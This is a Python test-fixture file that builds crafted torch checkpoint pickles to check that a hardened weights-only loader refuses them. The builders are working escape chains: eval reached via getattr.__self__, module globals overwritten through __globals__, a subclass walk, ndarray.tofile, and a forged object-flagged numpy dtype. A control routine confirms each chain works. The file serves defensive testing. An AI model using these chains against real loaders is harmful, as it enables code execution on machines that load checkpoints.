# Copyright (c) lightvit-mm contributors. Licensed under the Apache License 2.0.
"""Crafted checkpoint files that try to escape weights-only loading.

Each is a protocol-2 pickle written opcode by opcode and packed in torch's
zip format, named like a real checkpoint. ``ATTACKS`` maps a name to
``(builder, refusal)``: ``builder(marker)`` returns the pickle bytes (the
payload would create the file ``marker``), ``refusal`` is a regular
expression that the refusal message must match, naming the step refused.

Positive controls: ``python tests/test_checkpoint/crafted_checkpoints.py TMP_DIR`` loads
every file with the raw objects it names allow-listed as they are
(``getattr``, ``HistoryBuffer``, ``numpy.ndarray``, ``numpy.dtype`` and its
float64 class, numpy's ``_reconstruct``: :func:`_raw_globals`), checks that each does what its
docstring claims (:data:`CLAIMS`; the payloads only write files in
``TMP_DIR``), and prints one JSON line ``{attack: what it did}``. Run it in
a fresh process without ``lightvit_mm``: the attacks alter the process.
"""
import json
import os
import struct
import sys

import torch

HISTORY_BUFFER = ('mmengine.logging.history_buffer', 'HistoryBuffer')


# -- a tiny pickle assembler: every helper returns opcodes that push one value
def glob(module, name):
    return b'c' + module.encode() + b'\n' + name.encode() + b'\n'


def text(value):
    data = value.encode()
    return b'X' + struct.pack('<I', len(data)) + data


def num(value):
    return b'J' + struct.pack('<i', value)


def tup(*items):
    return b'(' + b''.join(items) + b't'


def dct(*pairs):
    return b'}' + (b'(' + b''.join(k + v for k, v in pairs) + b'u' if pairs else b'')


def call(func, *args):
    return func + tup(*args) + b'R'


def attr(obj, name):
    return call(glob('builtins', 'getattr'), obj, text(name))


def new(cls):
    return cls + b')\x81'  # NEWOBJ with no arguments


def build(obj, state):
    return obj + state + b'b'


def setitem(target, key, value):
    """Store into ``target`` (pushes ``target``)."""
    return target + key + value + b's'


def program(*steps):
    """The pickle: the tuple of the steps' values, evaluated in order (torch's
    unpickler has no POP)."""
    return b'\x80\x02' + tup(*steps) + b'.'


def payload(marker):
    return f"__import__('pathlib').Path({str(marker)!r}).write_text('pwned')"


# -- the attacks
def getattr_self(marker):
    """Full chain: ``getattr.__self__`` is ``builtins``, so ``eval`` is
    reachable; two HistoryBuffers stuffed through BUILD pose as ``torch`` with
    ``torch.nn.Parameter = eval``; they replace ``torch`` in the globals of
    ``torch._utils._rebuild_parameter`` (SETITEM into a module's dict), which
    the file then calls: ``torch.nn.Parameter(source, ...)`` runs ``eval``."""
    eval_fn = attr(attr(glob('builtins', 'getattr'), '__self__'), 'eval')
    fake_nn = build(new(glob(*HISTORY_BUFFER)), dct((text('Parameter'), eval_fn)))
    fake_torch = build(new(glob(*HISTORY_BUFFER)), dct((text('nn'), fake_nn)))
    rebuild = glob('torch._utils', '_rebuild_parameter')
    return program(fake_torch + b'q\x00',  # BINPUT 0: memo the fake torch
                   setitem(attr(rebuild, '__globals__'), text('torch'), b'h\x00'),  # BINGET 0
                   call(rebuild, text(payload(marker)), dct(), b'N'))


def function_globals(marker):
    """A function's ``__globals__`` is its module's dict: replace
    ``torch._utils.torch`` with a HistoryBuffer."""
    rebuild = glob('torch._utils', '_rebuild_parameter')
    return program(setitem(attr(rebuild, '__globals__'), text('torch'),
                           new(glob(*HISTORY_BUFFER))), dct())


def subclasses_walk(marker):
    """``().__class__.__base__.__subclasses__``: every class in the process."""
    return program(attr(attr(attr(tup(), '__class__'), '__base__'), '__subclasses__'))


def numpy_attribute(marker):
    """Attributes of numpy objects: ``numpy.ndarray.tofile`` writes files."""
    return program(attr(glob('numpy', 'ndarray'), 'tofile'))


def module_dict_setitem(marker):
    """Start from an attribute the allow-list grants (``HistoryBuffer.min``),
    then take its ``__globals__`` (mmengine's module dict) and overwrite
    ``np`` in it."""
    statistic = attr(glob(*HISTORY_BUFFER), 'min')
    return program(setitem(attr(statistic, '__globals__'), text('np'), dct()), dct())


def history_buffer_attributes(marker):
    """A HistoryBuffer whose ``__dict__`` is stuffed through BUILD."""
    return program(build(new(glob(*HISTORY_BUFFER)),
                         dct((text('max_length'), num(5)), (text('nn'), dct()))))


def history_buffer_statistics(marker):
    """A HistoryBuffer state whose ``statistics_methods`` replace ``mean`` in
    the class-wide table with another allowed callable."""
    methods = dct((text('mean'), glob('torch._utils', '_rebuild_tensor_v2')))
    return program(build(new(glob(*HISTORY_BUFFER)),
                         dct((text('max_length'), num(5)), (text('statistics_methods'), methods))))


def numpy_object_dtype(marker):
    """A float dtype whose state (BUILD) sets the object flag (no fields),
    then an array with it whose raw bytes numpy takes for object pointers."""
    dtype = build(call(glob('numpy', 'dtype'), text('f8'), b'\x89', b'\x88'),
                  tup(num(3), text('<'), b'N', b'N', b'N', num(8), num(8), num(1)))
    empty = call(glob('numpy.core.multiarray', '_reconstruct'), glob('numpy', 'ndarray'),
                 tup(num(0)), call(glob('_codecs', 'encode'), text('b'), text('latin1')))
    data = call(glob('_codecs', 'encode'), text('\x41' * 8), text('latin1'))
    return program(build(empty, tup(num(1), tup(num(1)), dtype, b'\x89', data)))


ATTACKS = {
    'getattr_self': (getattr_self, r"refused getattr\(function checked_getattr, '__self__'\)"),
    'function_globals': (function_globals,
                         r"refused getattr\(function _rebuild_parameter, '__globals__'\)"),
    'subclasses_walk': (subclasses_walk, r"refused getattr\(a tuple, '__class__'\)"),
    'numpy_attribute': (numpy_attribute, r"refused getattr\(class \S+CheckedArray, 'tofile'\)"),
    'module_dict_setitem': (module_dict_setitem,
                            r"refused getattr\(function HistoryBuffer.min, '__globals__'\)"),
    'history_buffer_attributes': (history_buffer_attributes,
                                  r"refused HistoryBuffer state: unexpected keys \['nn'\]"),
    'history_buffer_statistics': (history_buffer_statistics,
                                  r'refused HistoryBuffer statistics_methods'),
    'numpy_object_dtype': (numpy_object_dtype, r'refused numpy array of dtype'),
}


def write_checkpoint(path, pickle_bytes):
    """Pack ``pickle_bytes`` as ``data.pkl`` of a torch zip checkpoint."""
    writer = torch._C.PyTorchFileWriter(str(path))
    for name, data in (('data.pkl', pickle_bytes), ('byteorder', b'little'),
                       ('version', b'3\n')):
        writer.write_record(name, data, len(data))
    writer.write_end_of_file()
    return str(path)


# -- positive controls: what each attack does when the raw objects are allowed
def _raw_globals():
    import _codecs

    import numpy as np
    from mmengine.logging import HistoryBuffer
    multiarray = np._core.multiarray if hasattr(np, '_core') else np.core.multiarray
    return [getattr, HistoryBuffer, np.ndarray, np.dtype, type(np.dtype('f8')), _codecs.encode,
            (multiarray._reconstruct, 'numpy.core.multiarray._reconstruct')]


def _claim_getattr_self(result, marker):
    return marker.read_text() == 'pwned' and 'payload ran: eval wrote the marker file'


def _claim_function_globals(result, marker):
    from mmengine.logging import HistoryBuffer
    return type(torch._utils.torch) is HistoryBuffer and 'torch._utils.torch replaced'


def _claim_subclasses_walk(result, marker):
    from mmengine.logging import HistoryBuffer
    return HistoryBuffer in result[0]() and 'object.__subclasses__() returned'


def _claim_numpy_attribute(result, marker):
    import numpy as np
    result[0](np.arange(3.), str(marker))
    return marker.stat().st_size == 24 and 'ndarray.tofile wrote a file'


def _claim_module_dict_setitem(result, marker):
    from mmengine.logging import history_buffer
    return history_buffer.np == {} and 'mmengine.logging.history_buffer.np replaced'


def _claim_history_buffer_attributes(result, marker):
    return result[0].nn == {} and 'HistoryBuffer got the attribute nn'


def _claim_history_buffer_statistics(result, marker):
    from mmengine.logging import HistoryBuffer
    return (HistoryBuffer._statistics_methods['mean'] is torch._utils._rebuild_tensor_v2
            and "HistoryBuffer's class-wide 'mean' replaced")


def _claim_numpy_object_dtype(result, marker):
    array = result[0]
    _KEEP.append(array)  # never freed: freeing would dereference the fake pointers
    return (array.dtype.hasobject and array.dtype.kind == 'f'
            and 'float array with the object flag (its bytes are pointers)')


_KEEP = []
#: attack -> check(loaded result, marker path) -> description of the effect, or False
CLAIMS = {name: globals()[f'_claim_{name}'] for name in ATTACKS}


def _restore():
    """Undo what the attacks change in the process."""
    import numpy as np
    from mmengine.logging import HistoryBuffer, history_buffer
    vars(torch._utils)['torch'] = torch
    history_buffer.np = np
    HistoryBuffer._statistics_methods['mean'] = HistoryBuffer.mean


def run_controls(tmp_dir):
    """{attack: effect} for every attack read with :func:`_raw_globals`
    allow-listed; a failed claim or load gives its error text."""
    import pathlib
    torch.serialization.add_safe_globals(_raw_globals())
    effects = {}
    for name, (builder, _) in ATTACKS.items():
        marker = pathlib.Path(tmp_dir) / f'{name}.marker'
        path = write_checkpoint(pathlib.Path(tmp_dir) / f'{name}.ckpt', builder(marker))
        result, load_error = None, ''
        try:
            try:
                result = torch.load(path)
            except Exception as error:  # getattr_self's payload breaks torch's own rebuild
                load_error = f' (load: {type(error).__name__}: {str(error)[:300]})'
            effects[name] = CLAIMS[name](result, marker) or 'claim not met' + load_error
        except Exception as error:
            effects[name] = f'{type(error).__name__}: {error}{load_error}'
        finally:
            _restore()
    return effects


if __name__ == '__main__':
    print(json.dumps(run_controls(sys.argv[1])), flush=True)
    os._exit(0)  # skip freeing the object-flagged array
